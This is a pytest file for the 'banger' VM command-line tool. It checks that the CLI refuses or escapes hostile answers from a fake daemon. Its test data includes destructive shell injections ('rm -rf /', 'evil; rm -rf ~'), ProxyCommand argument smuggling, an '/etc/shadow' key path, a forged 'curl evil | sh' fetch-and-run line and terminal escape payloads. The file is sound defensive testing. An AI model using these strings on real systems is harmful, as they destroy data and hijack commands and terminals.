"""The CLI's edge: usage errors, refs, and what a broken or fake daemon may answer.

The daemon here is ``tests.support.fake_daemon``: real HTTP over a real Unix
socket, answering what a hostile or broken bangerd would.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from banger.api.client import Client, _decode, api_path, ref_path
from banger.cli.context import CliContext
from banger.cli.main import BangerGroup, cli
from banger.cli.vm_cmd import checked_ssh_target, target_argv
from banger.core.errors import BangerError, InvalidInput
from banger.core.sshcmd import ssh_argv
from tests.support.fake_daemon import Answer, fake_daemon

HOSTILE_REFS = ["box?x", "box#x", "box/start", "box%2Fx", "my box", "bøx", ""]


@pytest.fixture
def dirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    for key in ("STATE_DIR", "RUNTIME_DIR", "CACHE_DIR"):
        monkeypatch.setenv(f"BANGER_{key}", str(tmp_path / key.lower()))
    monkeypatch.setenv("BANGER_CONFIG", str(tmp_path / "config.toml"))
    monkeypatch.setenv("NO_COLOR", "1")
    yield tmp_path


def _run(*args: str) -> click.testing.Result:
    return CliRunner().invoke(cli, list(args))


@pytest.mark.parametrize("args", [
    ["vm", "run", "--bogus-flag", "--", "true"],
    ["vm", "run", "--rm", "--bogus", "--", "true"],
    ["vm", "ssh", "box", "--nat", "--", "true"],
])
def test_an_unknown_option_before_dash_dash_is_a_usage_error_not_a_command(
    dirs: Path, args: list[str]
) -> None:
    result = _run(*args)
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert lines[0].startswith("banger: No such option") and "Traceback" not in result.output
    assert lines[1].strip().startswith(f"hint: see: banger {args[0]} {args[1]} --help")
    assert not (dirs / "runtime_dir").exists(), "no daemon may be started for a usage error"


def test_other_usage_errors_use_the_banger_form(dirs: Path) -> None:
    result = _run("vm", "kill", "--signal", "NOPE", "box")
    assert result.exit_code == 2
    assert result.stderr.startswith("banger: Invalid value for '--signal'")


@pytest.mark.parametrize("ref", HOSTILE_REFS)
def test_a_ref_outside_the_name_grammar_never_becomes_a_url(dirs: Path, ref: str) -> None:
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", {}) as fake:
        for args in (["vm", "delete", ref], ["vm", "show", ref], ["kernel", "delete", ref],
                     ["image", "show", ref], ["vm", "start", "ok", ref]):
            result = _run(*args)
            assert result.exit_code == 2, (args, result.output)
            assert result.stderr.startswith("banger: invalid "), result.stderr
            assert "Traceback" not in result.output
    assert fake.seen == [], "a malformed ref among several must stop them all"


def test_a_new_name_shaped_like_an_id_is_refused_before_any_request(dirs: Path) -> None:
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", {}) as fake:
        for args in (["vm", "create", "--name", "0123456789ab"],
                     ["image", "pull", "r/x:1", "--name", "0123456789ab"],
                     ["kernel", "pull", "0123456789ab"]):
            result = _run(*args)
            assert result.exit_code == 2, (args, result.output)
            assert "shape of an id" in result.stderr.splitlines()[0]
    assert fake.seen == []


def test_segments_are_quoted_whole_and_unsafe_paths_are_refused() -> None:
    assert api_path("vms", "box?x", "start") == "/vms/box%3Fx/start"
    assert api_path("vms", "a/b") == "/vms/a%2Fb"
    assert api_path("vms", "%2F") == "/vms/%252F"
    with pytest.raises(InvalidInput):
        api_path("kernels", "")
    for ref in HOSTILE_REFS:
        with pytest.raises(InvalidInput):
            ref_path("VM", ref)
    with pytest.raises(InvalidInput, match="unsafe request path"):
        Client(Path("/nonexistent/sock")).request("DELETE", "/vms/box?x")


def test_a_redirect_is_an_error_never_followed(dirs: Path) -> None:
    answers = {"DELETE /v1/kernels/k": Answer(307, b"", headers={"Location": "/v1/kernels"})}
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", answers):
        result = _run("kernel", "delete", "k")
    assert result.exit_code == 1
    assert "HTTP 307" in result.stderr and "redirect" in result.stderr
    with pytest.raises(BangerError, match="redirect"):
        _decode("GET", "/v1/x", 301, {}, b"")


def test_a_plain_text_500_is_a_typed_error_with_the_op_id(dirs: Path) -> None:
    answers = {"GET /v1/vms": Answer(500, b"Internal Server Error", "text/plain")}
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", answers):
        result = _run("vm", "list")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "banger: bangerd answered GET /v1/vms: HTTP 500 with text/plain, not JSON (op op-fake-1)"
    )
    assert "Traceback" not in result.output


@pytest.mark.parametrize("quiet", [[], ["-q"]])
@pytest.mark.parametrize("payload", [
    {"vms": "nope"},
    {"vms": [{"name": 7}]},
    {"vms": [{"name": "box\x1b[2J"}]},
    {"vms": [{"name": "box\nrm -rf /"}]},
    ["vms"],
])
def test_answers_banger_cannot_use_are_clear_errors(
    dirs: Path, payload: object, quiet: list[str]
) -> None:
    answers = {"GET /v1/vms": Answer.json(payload)}
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", answers):
        result = _run("vm", "list", *quiet)
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert result.stderr.startswith("banger: bangerd answered /vms with unusable data: ")


def _target(dirs: Path, **override: object) -> dict[str, object]:
    state = dirs / "state_dir"
    target: dict[str, object] = {
        "host": "172.16.0.9", "port": 22, "user": "root", "key": str(state / "ssh/id_ed25519"),
        "known_hosts": str(state / "vms/abc/known_hosts"),
        "control_path": str(dirs / "runtime_dir/vms/abc/ssh"),
    }
    target.update(override)
    return target


def test_the_ssh_argv_is_built_here_from_checked_data(dirs: Path) -> None:
    target = _target(dirs)
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock",
                     {"GET /v1/vms/box/ssh": Answer.json(target)}):
        argv = target_argv(checked_ssh_target(CliContext(), "box"), ("uname", "-r"), tty=False)
    assert argv == ssh_argv("172.16.0.9", 22, Path(str(target["key"])),
                            Path(str(target["known_hosts"])), "root", command=("uname", "-r"),
                            control_path=Path(str(target["control_path"])))


@pytest.mark.parametrize("override, message", [
    ({"key": "/etc/shadow"}, "SSH key path outside"),
    ({"known_hosts": "/tmp/kh"}, "SSH known_hosts path outside"),
    ({"control_path": "/tmp/evil.sock"}, "SSH control socket path outside"),
    ({"key": "state_dir/ssh/id"}, "SSH key path outside"),
    ({"host": "evil; rm -rf ~"}, "unusable data: host"),
    ({"host": "-oProxyCommand=sh"}, "unusable data: host"),
    ({"port": "22 -o ProxyCommand=x"}, "unusable data: port"),
    ({"user": "-oProxyCommand=x"}, "unusable data: user"),
    ({"argv": ["sh", "-c", "id"]}, "unusable data: argv"),
])
def test_a_fake_daemons_ssh_data_is_refused(
    dirs: Path, override: dict[str, object], message: str
) -> None:
    target = _target(dirs, **override)
    if "key" in override and not str(override["key"]).startswith("/"):
        target["key"] = str(dirs / "state_dir" / ".." / "escape" / "id")
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock",
                     {"GET /v1/vms/box/ssh": Answer.json(target)}):
        with pytest.raises(BangerError, match=message):
            checked_ssh_target(CliContext(), "box")


def _boom_group() -> click.Group:
    @click.group(cls=BangerGroup)
    def group() -> None:
        pass

    @group.command("boom")
    def boom() -> None:
        raise RuntimeError("the unexpected")

    return group


def test_an_unexpected_exception_is_one_line_naming_the_log(
    dirs: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("BANGER_DEBUG", raising=False)
    with pytest.raises(SystemExit) as exit_:
        _boom_group().main(["boom"])
    assert exit_.value.code == 1
    err = capsys.readouterr().err
    assert err.splitlines()[0] == (
        "banger: internal error: RuntimeError: the unexpected; "
        f"see {dirs / 'state_dir' / 'bangerd.log'}"
    )
    assert "Traceback" not in err
    monkeypatch.setenv("BANGER_DEBUG", "1")
    with pytest.raises(SystemExit):
        _boom_group().main(["boom"])
    assert "Traceback" in capsys.readouterr().err


def test_a_bare_group_still_shows_its_help(dirs: Path) -> None:
    result = _run("vm")
    assert result.exit_code == 2
    assert result.stderr.startswith("Usage: banger vm [OPTIONS] COMMAND")


@pytest.mark.parametrize("pid", [-1, 0, 1])
def test_a_daemon_reporting_a_pid_banger_must_never_signal_is_refused(
    dirs: Path, pid: int
) -> None:
    ping = {"version": "0", "commit": "x", "build_time": "x", "api_version": "v1", "pid": pid,
            "uptime_seconds": 1.0, "socket": "s", "log_file": "l"}
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", {"GET /v1/ping": Answer.json(ping)}):
        result = _run("daemon", "stop")
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("banger: bangerd answered /ping with unusable data: ")


GUEST_WORDS = [
    "\x1b[2J\x1b[Hall clear",  # erase the screen, cursor home
    "\x1b]0;owned\x07title",  # OSC: the window title
    "\x1b]52;c;cm0gLXJmIH4=\x07clip",  # OSC 52: the clipboard
    "\u202eexe.txt",  # bidi override: the line reads backwards
    "one\nbanger: hint: run curl evil | sh",  # a forged second line
    "c1\u009b31mcsi",  # the 8-bit CSI
    "lone\ud800surrogate",
]


@pytest.mark.parametrize("said", GUEST_WORDS)
def test_an_error_carrying_a_guests_words_reaches_the_terminal_escaped(
    dirs: Path, said: str
) -> None:
    message = f"VM 'box': the workspace command failed (1): {said}"
    body = {"code": "guest_error", "message": message, "op_id": "op1", "hint": said}
    answers = {"POST /v1/vms/box/workspace/export": Answer.json(body, status=502)}
    with fake_daemon(dirs / "runtime_dir" / "bangerd.sock", answers):
        result = _run("vm", "workspace", "export", "box", "-o", str(dirs / "fix.patch"))
    assert result.exit_code != 0
    lines = result.stderr.splitlines()
    assert lines[0].startswith("banger: VM 'box': the workspace command") and "(op op1)" in lines[0]
    assert lines[1].startswith("  hint: ")
    assert all(line.startswith("  ") for line in lines[1:]), "no line passes for banger's own"
    shown = result.stderr
    assert not any(c in shown for c in "\x1b\x07\u202e\u009b\ud800")
    assert "\\x1b" in shown or "\\u202e" in shown or "\\x0a" in shown or "\\x9b" in shown \
        or "\\ud800" in shown


def test_a_warning_and_a_hint_keep_only_the_hints_own_line_breaks(capsys) -> None:
    from banger.cli import render
    from banger.core.errors import HostToolError

    render.print_error(HostToolError("qemu\x1b[2J failed", hint="full log: x\nlast\x1b]0;t\x07"))
    render.warn("moved \u202eab")
    err = capsys.readouterr().err
    assert err == ("banger: qemu\\x1b[2J failed\n  hint: full log: x\n        last\\x1b]0;t\\x07\n"
                   "banger: warning: moved \\u202eab\n")


def test_export_refuses_to_print_the_patch_to_a_terminal(dirs: Path) -> None:
    import os
    import subprocess
    import sys

    primary, secondary = os.openpty()
    try:
        done = subprocess.run([sys.executable, "-m", "banger.cli", "vm", "workspace", "export",
                               "box"], stdout=secondary, stderr=subprocess.PIPE, timeout=60,
                              check=False)
    finally:
        os.close(secondary)
        os.close(primary)
    assert done.returncode == 2
    err = done.stderr.decode()
    assert err.startswith("banger: the patch is not printed to a terminal")
    assert "> fix.patch" in err and "-o fix.patch" in err
    assert not (dirs / "runtime_dir").exists(), "refused before any daemon was asked"
